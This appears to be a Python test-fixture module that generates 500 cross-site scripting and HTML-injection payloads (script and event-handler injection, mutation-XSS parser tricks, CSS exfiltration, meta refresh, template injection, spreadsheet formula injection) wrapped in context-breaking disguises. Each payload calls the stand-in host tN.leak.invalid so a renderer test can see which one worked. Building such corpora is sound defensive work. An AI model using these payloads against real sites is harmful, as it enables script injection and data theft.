"""500 texts that try to run a script, send a request or rearrange the page they stand in.

Fifty attacks, each in ten disguises. Text N asks for `http://tN.leak.invalid/` and sets
`data-owned="N"` on the document, so that an attack that works says which text it was.
"""

from __future__ import annotations

from html import escape

BIDI = "\u202e\u2066\u200b\ufeff\u2028\u2029\u202c"
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x1b[8m\x9b31m"
LONG = "many words and no end " * 900

# URL and JS stand for the request and the script of the text's own number.
ATTACKS = (
    "<script>JS</script>",
    "<script src=URL></script>",
    "<script type=module>import 'URL'</script>",
    '<script type=importmap>{"imports":{"a":"URL"}}</script>'
    '<script type=module>import "a"</script>',
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL"]}]}</script>',
    "<img src=URL>",
    '<img src=x: onerror="JS">',
    '<img srcset="URL 1x, URLb 2x">',
    "<picture><source srcset=URL><img src=x:></picture>",
    '<svg onload="JS">',
    '<svg><animate onbegin="JS" attributeName=x dur=1s></svg>',
    "<svg><image href=URL></image></svg>",
    "<svg><use href=URL#x></use></svg>",
    "<svg><script>JS</script></svg>",
    "<svg><style>@import 'URL';</style></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>parent.JS</script>"></iframe></foreignObject>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x: onerror=JS>">',
    '<svg></p><style><a id="</style><img src=x: onerror=JS>">',
    '<noscript><p title="</noscript><img src=x: onerror=JS>"></noscript>',
    '<select><template><style><!--</style><a rel="--></style><img src=x: onerror=JS>"></template>',
    "<template><script>JS</script></template><img src=URL>",
    '<body onload="JS">',
    '<frameset onload="JS">',
    "<iframe src=URL></iframe>",
    '<iframe src="javascript:parent.JS"></iframe>',
    '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
    '<object data=URL></object><embed src=URL><applet code="URL">',
    "<link rel=stylesheet href=URL>",
    "<link rel=prefetch href=URL><link rel=preload as=image href=URL>"
    "<link rel=dns-prefetch href=URL>",
    "<style>@import url(URL);</style>",
    "<style>html{background:url(URL)}pre,td,li{display:none!important}</style>",
    '<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}input[value^=a]{color:red}</style>',
    '<div style="background:url(URL);position:fixed;inset:0">over everything</div>',
    "<base href=URL><img src=relative>",
    '<meta http-equiv=refresh content="0;url=URL">',
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src=URL>",
    "<form action=URL><input name=a></form><script>document.forms[0].submit()</script>",
    '<input autofocus onfocus="JS"><input type=image src=URL>',
    '<video poster=URL src=URL onerror="JS"></video><audio src=URL autoplay></audio>',
    '<details open ontoggle="JS">x</details>',
    '<marquee onstart="JS">x</marquee><table background=URL><tr><td>x</table>',
    '<a href="javascript:JS" ping=URL autofocus onfocus="JS" tabindex=0>click</a>',
    "<plaintext><xmp><listing><textarea><title>",
    "<!--#exec cmd='id'--><?xml-stylesheet href='URL'?><!DOCTYPE x [<!ENTITY y SYSTEM 'URL'>]>&y;",
    "datum.constructor.constructor('JS')()",
    "{{constructor.constructor('JS')()}}${JS}#{JS}<%= JS %>",
    "javascript:JS//data:text/html,<script>JS</script>",
    '=HYPERLINK("URL","x")|@SUM(1)|+cmd|\' /C calc\'!A0',
    '{"$schema":"URL","data":{"url":"URL"},"usermeta":{"embedOptions":{"loader":{}}},"href":"URL"}',
    '<button popovertarget=p>x</button><dialog open><form method=dialog><img src=URL onload="JS">',
)  # fmt: skip

DISGUISES = (
    "{}",
    "</pre></td></tr></table></article></section></main>{}",
    "</script>{}",
    "\"'>{}",
    "-->]]>{}<!--",
    "</style></title></textarea></noscript></template></select></svg></math>{}",
    "[a](javascript:alert(1)) ![b](http://x.leak.invalid/) ```html\n{}\n```",
    BIDI + "{}" + TERMINAL,
    "\"}]}}\u2028';{};//\u2029&lt;b&gt;",
    "{}" + LONG,
)
# No quote and no blank, so that it runs in every kind of attribute.
SCRIPT = "document.documentElement.dataset.owned=fetch(`URL`)&&NUMBER"


def text(number: int) -> str:
    """Return text `number` of 500."""
    attack = ATTACKS[number % len(ATTACKS)].replace("JS", SCRIPT.replace("NUMBER", str(number)))
    disguise = DISGUISES[number // len(ATTACKS)]
    filled = attack.replace("URL", f"http://t{number}.leak.invalid/")
    return disguise.replace("{}", filled)


TEXTS = tuple(text(number) for number in range(len(ATTACKS) * len(DISGUISES)))
# Where a name of many words would be unreadable: the same attacks, in one line and undisguised.
NAMES = tuple(attack for attack in TEXTS[: len(ATTACKS)] if attack.isprintable())


def frames(texts: tuple[str, ...] = TEXTS) -> str:
    """Return a page that holds every text raw, each in a frame of its own, without a policy."""
    bodies = (f'<iframe srcdoc="{escape(text)}"></iframe>' for text in texts)
    return f"<!DOCTYPE html><title>unsafe</title>{''.join(bodies)}"
